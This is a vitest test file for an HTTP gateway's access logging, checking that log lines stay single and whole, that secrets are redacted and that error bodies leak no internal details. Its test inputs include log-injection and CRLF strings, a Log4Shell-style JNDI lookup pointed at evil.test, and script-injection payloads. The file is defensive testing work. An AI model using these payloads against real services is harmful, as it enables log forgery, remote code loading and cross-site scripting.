import { connect } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import type { Middleware } from '../../src/core/types.js';
import { exchange, type Exchange } from '../support/raw-client.js';
import { eventually } from '../support/eventually.js';
import { front, get, lines, MOUNTINGS, type Front } from './front.js';

/** Control characters and everything that some viewer takes for the end of a line. */
const UNPRINTABLE = /[\p{Cc}\u2028\u2029\ufeff]/u;

const SECRET = 's3cr3t-v4lue';

/** Sends a request and waits for its one line. */
async function logged(
  gateway: Front,
  data: string,
): Promise<Exchange & { line: string; record: Record<string, unknown> }> {
  const before = gateway.lines.length;
  const result = await exchange(gateway.port, data, { settleMs: 5 });
  await eventually(() => gateway.lines.length > before);
  expect(gateway.lines).toHaveLength(before + 1);
  const line = gateway.lines[before] ?? '';
  return { ...result, line, record: JSON.parse(line) as Record<string, unknown> };
}

const throwing = (message: string): Middleware =>
  function throwIt() {
    throw new Error(message);
  };

describe.each(MOUNTINGS)('the access log, %s', (mounting) => {
  let gateway: Front;

  beforeAll(async () => {
    gateway = await front(
      (target) => ({
        requestId: true,
        routes: [
          { path: '/', target, stripPrefix: false },
          { path: '/down', target: 'http://127.0.0.1:1' },
          {
            path: '/throws',
            target,
            use: [throwing(`line one\r\nline two\u2028three\u001b[31m ${'x'.repeat(10_000)}`)],
          },
          { path: '/null', respond: () => null as never },
        ],
      }),
      { mounting },
    );
  });

  afterAll(() => gateway.close());

  it.each([
    '/a%0d%0aFAKE',
    '/a%0aFAKE',
    '/%1b%5b31m',
    '/%e2%80%a8',
    '/%c2%85',
    '/%22%7d%0a%7b%22level%22:%22info%22',
    '/"},{"level":"info',
    '/%7f',
    '/a#b',
    '/a\\b',
    '/%zz%1b',
    '/<script>',
    '/${jndi:ldap://evil.test}',
    '/%s%d%o',
  ])('has one whole line for %j (row 78)', async (target) => {
    const { line, record } = await logged(gateway, get(target));
    expect(line).not.toMatch(UNPRINTABLE);
    expect(record).toMatchObject({ method: 'GET', clientIp: '127.0.0.1' });
    expect(Object.keys(record).filter((key) => key === 'level')).toEqual(['level']);
  });

  it.each(['GET', 'PROPFIND', 'M-SEARCH'])('names the method %s as it was sent (row 78)', async (method) => {
    const { record } = await logged(gateway, lines(`${method} /x HTTP/1.1`, 'Host: gateway.test', ''));
    expect(record.method).toBe(method);
  });

  it.each([
    `Authorization: Bearer ${SECRET}`,
    `authorization: Basic ${SECRET}`,
    `Proxy-Authorization: Basic ${SECRET}`,
    `Cookie: session=${SECRET}`,
    `X-API-Key: ${SECRET}`,
    `X-Auth-Token: ${SECRET}`,
    `Referer: http://x/?token=${SECRET}`,
    `X-Forwarded-For: ${SECRET}`,
    `X-Forwarded-Host: ${SECRET}`,
  ])('holds no value of a header: %s (row 78)', async (field) => {
    for (const path of ['/x', '/down', '/throws', '/%zz']) {
      const { line, raw } = await logged(gateway, get(path, field));
      expect(line).not.toContain(SECRET);
      expect(raw).not.toContain(SECRET);
    }
  });

  it.each(['token', 'access_token', 'api_key', 'password', 'code', 'anything'])(
    'holds no query: %s (row 78)',
    async (name) => {
      for (const path of ['/x', '/down', '/throws', '/%zz']) {
        const { line, raw } = await logged(gateway, get(`${path}?${name}=${SECRET}`));
        expect(line).not.toContain(SECRET);
        expect(raw).not.toContain(SECRET);
      }
    },
  );

  it('holds no user information of an absolute target (row 78)', async () => {
    const { line, raw } = await logged(gateway, get(`http://user:${SECRET}@gateway.test/x`));
    expect(line).not.toContain(SECRET);
    expect(raw).not.toContain(SECRET);
  });

  it('holds no body (row 78)', async () => {
    const head = lines('POST /down HTTP/1.1', 'Host: gateway.test', `Content-Length: ${SECRET.length}`, '');
    const { line } = await logged(gateway, head + SECRET);
    expect(line).not.toContain(SECRET);
  });

  it.each(['a b', 'a\u0085b', '<script>', "a'b", 'a/b', 'a"b', '{}', 'x'.repeat(129), '../x', 'a,b', ''])(
    'takes over no request id that could break it: %j (row 78)',
    async (id) => {
      const { record, response } = await logged(gateway, get('/x', `X-Request-Id: ${id}`));
      expect(record.requestId).toMatch(/^[\da-f-]{36}$/);
      expect(response?.headers['x-request-id']).toBe(record.requestId);
    },
  );

  it.each(['/\x7f', '/\u0085', '/\u009b31m', '/\u00e2\u0080\u00a8'])(
    'has at most one line for %j, which no URL may hold (row 78)',
    async (target) => {
      const before = gateway.lines.length;
      expect((await exchange(gateway.port, get(target))).response?.status).toBe(400);
      await exchange(gateway.port, get('/last', 'Connection: close'));
      await eventually(() => gateway.lines.slice(before).some((line) => line.includes('"path":"/last"')));
      const written = gateway.lines.slice(before).filter((line) => !line.includes('"path":"/last"'));
      expect(written.length).toBeLessThanOrEqual(1);
      expect(written.join('')).not.toMatch(UNPRINTABLE);
    },
  );

  it('is bounded for a path of 15,000 characters (row 78)', async () => {
    const { line, record } = await logged(gateway, get(`/${'a'.repeat(15_000)}`));
    expect(record.status).toBe(200);
    expect(line.length).toBeLessThan(8_192);
  });

  it('gets 431 and at most one line for a path of 1 MB (row 78)', async () => {
    const before = gateway.lines.length;
    const { response, closed } = await exchange(gateway.port, get(`/${'a'.repeat(1_000_000)}`));
    expect([414, 431, undefined]).toContain(response?.status);
    expect(closed).toBe(true);
    expect(gateway.lines.slice(before).join('').length).toBeLessThan(8_192);
    expect((await exchange(gateway.port, get('/x'))).response?.status).toBe(200);
  });

  it('escapes and bounds the message of an error that a middleware throws (row 78)', async () => {
    const { line, record } = await logged(gateway, get('/throws'));
    expect(line).not.toMatch(UNPRINTABLE);
    expect(line.length).toBeLessThan(8_192);
    expect(record).toMatchObject({ level: 'error', status: 500, code: 'ERR_GATEWAY_INTERNAL' });
    expect(record.error).toMatch(/^line one\r\nline two/);
  });

  it.each([
    ['/down', 502, 'ERR_GATEWAY_UPSTREAM_UNREACHABLE'],
    ['/throws', 500, 'ERR_GATEWAY_INTERNAL'],
    ['/null', 500, 'ERR_GATEWAY_INTERNAL'],
    ['/%zz', 400, 'ERR_GATEWAY_REQUEST_MALFORMED'],
  ])(
    'knows more than the client: the body for %s holds no stack, host, port or file (row 78)',
    async (path, status, code) => {
      const { response, record } = await logged(gateway, get(path));
      const text = response?.body.toString() ?? '';
      expect(response?.status).toBe(status);
      expect(response?.headers['content-type']).toMatch(/^application\/problem\+json/);
      const problem = JSON.parse(text) as Record<string, unknown>;
      expect(problem).toMatchObject({ status, code, requestId: record.requestId });
      const said = text.replace(String(record.requestId), '');
      expect(said).not.toMatch(/127\.0\.0\.1|localhost|ECONN|\bat \w|\.[jt]s\b|node_modules|node:|line (?:one|two)/);
      expect(said).not.toContain(String(gateway.port));
      expect(said).not.toContain(String(gateway.upstream.port));
      expect(Object.keys(problem)).not.toContain('stack');
      expect(Object.keys(response?.headers ?? {}).join()).not.toMatch(/server|powered|upstream|target/);
    },
  );

  it('repeats what the client sent only as JSON (row 78)', async () => {
    const { response } = await logged(gateway, get('/down/"},<script>alert(1)</script>'));
    expect(response?.headers['content-type']).toMatch(/^application\/problem\+json/);
    expect(JSON.parse(response?.body.toString() ?? '')).toMatchObject({
      instance: '/down/"},<script>alert(1)</script>',
    });
  });

  it('has one line for a client that leaves at once, and it is whole (row 78)', async () => {
    const before = gateway.lines.length;
    const socket = connect(gateway.port, '127.0.0.1');
    socket.on('error', () => undefined);
    socket.end(get('/left'), () => socket.resetAndDestroy());
    await eventually(() => gateway.lines.length > before);
    const { response } = await exchange(gateway.port, get('/x'));
    expect(response?.status).toBe(200);
    const left = gateway.lines.slice(before).filter((line) => line.includes('/left'));
    expect(left).toHaveLength(1);
    expect(JSON.parse(left[0] ?? '')).toMatchObject({ path: '/left' });
  });
});

describe('a target with user information', () => {
  it('does not start, and the password is not in the message (row 78)', async () => {
    const started = front(() => ({ routes: [{ path: '/', target: `http://user:${SECRET}@127.0.0.1:1` }] }));
    await expect(started).rejects.toThrow(/target/);
    await expect(started).rejects.not.toThrow(SECRET);
  });
});
